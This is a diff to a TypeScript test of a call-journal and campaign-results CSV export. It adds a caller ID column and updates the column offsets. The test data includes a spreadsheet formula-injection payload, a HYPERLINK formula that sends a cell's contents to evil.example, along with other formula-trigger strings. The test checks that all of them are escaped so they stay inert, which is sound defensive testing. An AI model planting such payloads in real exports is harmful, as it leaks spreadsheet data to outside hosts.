@@ -32,6 +32,7 @@ interface CallView {
   recordingUrl: string | null;
   machineDetection: { verdict: string; cause: string; decisionMs: number } | null;
   trunkAttempts: { trunkId: string; sipCode: number | null }[];
+  callerIdNumber: string | null;
   variables: Record<string, string>;
 }
 
@@ -52,6 +53,7 @@ const FIXED = [
   'amd_cause',
   'amd_decision_ms',
   'trunks',
+  'caller_id_number',
   'recording_url',
 ];
 /** The journal export's columns of an external call's origin (empty for ours). */
@@ -168,6 +170,7 @@ async function seedCampaign() {
     JSON.stringify({ verdict: 'machine', cause: 'beep', decisionMs: 2480, treatedAs: 'machine', action: 'message' }),
   ]);
   // Failed over: the first trunk gave no answer, the second answered.
+  await db.query(`UPDATE call_record SET caller_id_number = '+4930555000' WHERE id = $1`, [answered]);
   await db.query('UPDATE call_record SET trunk_attempts = $2 WHERE id = $1', [
     answered,
     JSON.stringify([
@@ -225,13 +228,15 @@ test('the journal export holds what the journal API shows, hostile text inert an
     expect(record.slice(12, 15)).toEqual(amd ? [amd.verdict, amd.cause, String(amd.decisionMs)] : ['', '', '']);
     expect(record[15]).toBe(v.trunkAttempts.map((a) => `${a.trunkId}:${a.sipCode ?? '-'}`).join(';'));
     if (v.id === seed.answered) expect(record[15]).toMatch(/^[0-9a-f-]{36}:-;[0-9a-f-]{36}:200$/);
-    if (v.recordingUrl === null) expect(record[16]).toBe('');
-    else expect(record[16]).toMatch(new RegExp(`^https?://[^/]+${v.recordingUrl}$`));
-    expect(record.slice(17 + EXTERNAL.length).map(unguard)).toEqual(names.map((n) => v.variables[n] ?? ''));
+    if (v.id === seed.answered) expect(record[16]).toBe('+4930555000');
+    expect(record[16]).toBe(v.callerIdNumber ?? '');
+    if (v.recordingUrl === null) expect(record[17]).toBe('');
+    else expect(record[17]).toMatch(new RegExp(`^https?://[^/]+${v.recordingUrl}$`));
+    expect(record.slice(18 + EXTERNAL.length).map(unguard)).toEqual(names.map((n) => v.variables[n] ?? ''));
   });
   // The cells exactly: a leading ' where a spreadsheet would see a formula, nowhere else.
   const answered = records[0];
-  expect(answered.slice(17 + EXTERNAL.length)).toEqual([
+  expect(answered.slice(18 + EXTERNAL.length)).toEqual([
     `'=HYPERLINK("https://evil.example/?"&A1,"Fix")`,
     `'-1+2`,
     'Zoë 東京 🎉',
@@ -241,14 +246,14 @@ test('the journal export holds what the journal API shows, hostile text inert an
     `'\t=1+1`,
   ]);
   expect(records[2][6]).toBe(`'=Busy, "here"\r\n`);
-  expect(records[1].slice(17 + EXTERNAL.length)).toEqual(['', '', 'Paris', "'@x", '', '', '']);
+  expect(records[1].slice(18 + EXTERNAL.length)).toEqual(['', '', 'Paris', "'@x", '', '', '']);
 });
 
 test('campaign results: one record per contact in file order with its final outcome, or per attempt', async () => {
   const seed = await seedCampaign();
   const { header, records } = await download(alice.token, `/api/v1/campaigns/${seed.campaignId}/results`);
-  expect(header.slice(0, 19)).toEqual([...FIXED, 'contact_line', 'contact_state']);
-  const pick = (r: string[]) => [r[0], r[2], r[3], r[4], r[17], r[18], unguard(r[header.indexOf('city')])];
+  expect(header.slice(0, 20)).toEqual([...FIXED, 'contact_line', 'contact_state']);
+  const pick = (r: string[]) => [r[0], r[2], r[3], r[4], r[18], r[19], unguard(r[header.indexOf('city')])];
   expect(records.map(pick)).toEqual([
     [seed.answered, seed.phones[0], '2', 'answered', '2', 'done', 'Zoë 東京 🎉'],
     [seed.noAnswer, seed.phones[1], '1', 'no_answer', '3', 'done', 'Paris'],
